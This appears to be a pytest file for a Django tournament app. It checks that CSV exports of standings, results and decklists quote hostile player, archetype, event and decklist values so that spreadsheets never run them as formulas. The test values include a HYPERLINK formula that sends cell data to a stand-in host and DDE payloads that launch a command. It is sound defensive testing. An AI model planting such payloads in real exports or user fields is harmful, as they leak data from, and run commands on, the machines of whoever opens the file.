"""The four CSV exports open safely in a spreadsheet: names anyone picks are never run as formulas, numbers stay
numbers, and the file is UTF-8 with a byte-order mark."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from decks.models import DeckVersion
from decks.services import event_decklists_publish
from tests.support.leagues import committed, make_league, played_event, players
from tournaments.models import Event

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Zoë")'
ARCHETYPE = "+cmd|' /C calc'!A0"
EVENT = "@SUM(1+1)*cmd|' /C calc'!A0"
DECKLIST = "-2+3+cmd|' /C calc'!A0\n=1+1 Dark Magician"


@pytest.fixture
def hostile(organiser):
    _, season = make_league(organiser)
    field = players(4)
    field[0].display_name = NAME
    field[0].save(update_fields=["display_name"])
    event = played_event(organiser, season=season, field=field, rounds=2, day=3)
    Event.objects.filter(pk=event.pk).update(name=EVENT)
    for registration in event.registrations.select_related("player"):
        DeckVersion.objects.create(
            registration=registration, number=1, roles={"deck_master": ARCHETYPE}, decklist=DECKLIST
        )
    with committed():
        event_decklists_publish(event=event, by=organiser)
    return season, event


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def cells(table: list[list[str]]) -> list[str]:
    return [cell for row in table for cell in row]


def assert_no_formula(table: list[list[str]]) -> None:
    for cell in cells(table):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell


@pytest.mark.parametrize("export", ["standings", "results", "decklists"])
def test_an_event_export_quotes_a_hostile_name_archetype_and_decklist(hostile, export):
    _, event = hostile
    response = Client().get(f"/events/{event.pk}/export/{export}.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    assert response.content.startswith(b"\xef\xbb\xbf")
    table = rows(response)
    assert_no_formula(table)
    assert "'" + NAME in cells(table)
    if export != "results":
        assert "'" + ARCHETYPE in cells(table)
    if export == "decklists":
        assert "'" + DECKLIST in cells(table)


def test_the_season_export_quotes_a_hostile_event_name_in_its_header_and_a_hostile_player(hostile):
    season, event = hostile
    response = Client().get(f"/seasons/{season.pk}/standings.csv")
    assert response.status_code == 200 and response.content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    table = rows(response)
    assert_no_formula(table)
    assert table[0][-1] == f"'{EVENT} ({event.date})"
    assert "'" + NAME in cells(table)
